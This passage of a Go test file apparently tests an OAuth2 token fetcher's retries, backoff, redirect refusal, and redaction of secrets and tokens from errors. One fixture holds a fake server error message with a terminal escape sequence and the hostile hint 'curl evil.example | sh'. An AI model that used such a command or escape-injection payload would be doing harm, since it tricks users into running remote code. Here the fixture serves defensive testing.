				return nil, &url.Error{Op: "Post", URL: r.URL.String(), Err: tt.dns}
			})}
			p := &config.Profile{Name: "prod", Instance: "acme", Region: "eu", ClientID: testClientID, TokenURL: tt.tokenURL}
			rec := &sleepRecorder{budget: 2 * time.Second}
			f := newFetcher(p, testSecret, client, rec)
			f.Timeout = 2 * time.Second
			_, err := f.Fetch(context.Background())
			fe := fetchError(t, err)
			if fe.Kind != KindDNS || fe.Retryable != tt.retried {
				t.Errorf("Fetch() = {%s, Retryable %v}, want {KindDNS, %v} (%v)", kindName(fe.Kind), fe.Retryable, tt.retried, err)
			}
			if fe.Error() != tt.msg {
				t.Errorf("Fetch() error = %q, want %q", fe.Error(), tt.msg)
			}
			if !strings.Contains(fe.Hint(), tt.hint) {
				t.Errorf("Fetch() hint = %q, want it to contain %q", fe.Hint(), tt.hint)
			}
			if n := calls.Load(); (n > 1) != tt.retried {
				t.Errorf("requests = %d, want retried: %v", n, tt.retried)
			}
		})
	}
}

func TestBackoff(t *testing.T) {
	t.Parallel()
	for attempt := 1; attempt <= 8; attempt++ {
		d := min(200*time.Millisecond<<(attempt-1), 2*time.Second)
		for range 200 {
			if got := backoff(attempt); got < d/2 || got > d {
				t.Fatalf("backoff(%d) = %s, want %s-%s", attempt, got, d/2, d)
			}
		}
	}
}

func TestRetryAfter(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in       string
		min, max time.Duration
	}{
		{"", 0, 0},
		{"1", time.Second, time.Second},
		{" 30 ", 30 * time.Second, 30 * time.Second},
		{"0", 0, 0},
		{"-1", 0, 0},
		{"abc", 0, 0},
		{"99999", time.Hour, time.Hour},
		// whole seconds, read a moment later: anything from 20 s is right
		{time.Now().Add(30 * time.Second).UTC().Format(http.TimeFormat), 20 * time.Second, 30 * time.Second},
		{time.Now().Add(-time.Hour).UTC().Format(http.TimeFormat), 0, 0},
	}
	for _, tt := range tests {
		if got := retryAfter(tt.in); got < tt.min || got > tt.max {
			t.Errorf("retryAfter(%q) = %s, want %s-%s", tt.in, got, tt.min, tt.max)
		}
	}
}

func TestNewHTTPClient(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	notPEM := dir + "/not.pem"
	writeFile(t, notPEM, "not a certificate\n")
	for _, tt := range []struct{ path, want string }{
		{dir + "/missing.pem", "cannot read SSL_CERT_FILE"},
		{notPEM, "holds no PEM certificate"},
	} {
		if _, err := NewHTTPClient(tt.path); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("NewHTTPClient(%s) = %v, want an error containing %q", tt.path, err, tt.want)
		}
	}
	c, err := NewHTTPClient("")
	if err != nil || c.CheckRedirect == nil {
		t.Errorf("NewHTTPClient(\"\") = %v, %v; want a client that refuses redirects", c, err)
	}
}

// x/oauth2 parses form-encoded token responses too, but Token.Extra then
// returns expires_in as an int64, which expiresIn does not handle.
func TestFetchFormEncodedExpiresIn(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(oauthtest.Response{Status: 200, ContentType: "application/x-www-form-urlencoded", Body: "access_token=" + badToken + "&token_type=Bearer&expires_in=900"})
	got, err := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{}).Fetch(context.Background())
	if err != nil {
		t.Fatalf("Fetch() of a form-encoded token = %v, want a token", err)
	}
	if want := start.Add(900 * time.Second); !got.Expiry.Equal(want) {
		t.Errorf("Fetch().Expiry = %v, want %v", got.Expiry, want)
	}
}

// error and error_description come from the server and go into the message
// unfolded: a newline or an escape sequence reaches the user's terminal.
func TestFetchErrorDescriptionControlCharacters(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(oauthtest.Response{Status: 400, Body: `{"error":"invalid_grant","error_description":"bad\n\u001b[31mnxcred: hint: run curl evil.example | sh"}`})
	_, err := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{}).Fetch(context.Background())
	fe := fetchError(t, err)
	if strings.ContainsAny(fe.Error(), "\n\r\x1b") {
		t.Errorf("Fetch() error = %q, want no control characters from the server", fe.Error())
	}
}

// The recorder keeps only the first excerptLen bytes of the body and
// redaction runs on that cut, so a secret straddling byte 200 is not found
// and its first bytes are printed.
func TestFetchExcerptCutsSecret(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(oauthtest.Response{Status: 200, ContentType: "text/html", Body: strings.Repeat("x", 190) + testSecret + " echoed"})
	_, err := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{}).Fetch(context.Background())
	fe := fetchError(t, err)
	if prefix := testSecret[:10]; strings.Contains(fe.Error(), prefix) {
		t.Errorf("Fetch() error = %q, contains the first 10 bytes of the secret %q", fe.Error(), prefix)
	}
}

// The caller's own cancellation (Ctrl-C) is reported as a network failure
// and marked retryable.
func TestFetchCanceled(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{}).Fetch(ctx)
	fe := fetchError(t, err)
	if fe.Kind == KindNetwork || fe.Retryable || !errors.Is(err, context.Canceled) {
		t.Errorf("Fetch(canceled) = {%s, Retryable %v, %q}, want a non-retryable cancellation, not a network failure", kindName(fe.Kind), fe.Retryable, fe.Error())
	}
}

// Fetcher with a nil Client falls back to http.DefaultClient, which follows
// a 307 with the form and, to the same host name, the Basic header.
func TestFetchNilClientFollowsRedirect(t *testing.T) {
	t.Parallel()
	second := oauthtest.NewPlain(testClientID, testSecret)
	t.Cleanup(second.Close)
	redirector := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, second.TokenURL(), http.StatusTemporaryRedirect)
	}))
	t.Cleanup(redirector.Close)
	p := &config.Profile{Name: "prod", ClientID: testClientID, TokenURL: redirector.URL + oauthtest.TokenPath}
	_, err := newFetcher(p, testSecret, nil, &sleepRecorder{}).Fetch(context.Background())
	if n := second.Hits(); n != 0 || !errors.Is(err, ErrRedirect) {
		t.Errorf("Fetch() with a nil Client = %v, redirect target hits %d; want ErrRedirect and 0 hits", err, n)
	}
}

// When x/oauth2 cannot parse a 200 response (an expires_in of 900.5, "abc"
// or true), the error quotes the body, and the body holds a working token.
func TestFetchUnparsedBodyShowsToken(t *testing.T) {
	t.Parallel()
	srv, client := trustedServer(t, testSecret)
	srv.Enqueue(oauthtest.Response{Status: 200, Body: `{"access_token":"` + badToken + `","token_type":"Bearer","expires_in":900.5}`})
	_, err := newFetcher(serverProfile(srv), testSecret, client, &sleepRecorder{}).Fetch(context.Background())
	fe := fetchError(t, err)
	if strings.Contains(fe.Error(), badToken) {
		t.Errorf("Fetch() error = %q, contains the access token %q", fe.Error(), badToken)
	}
}
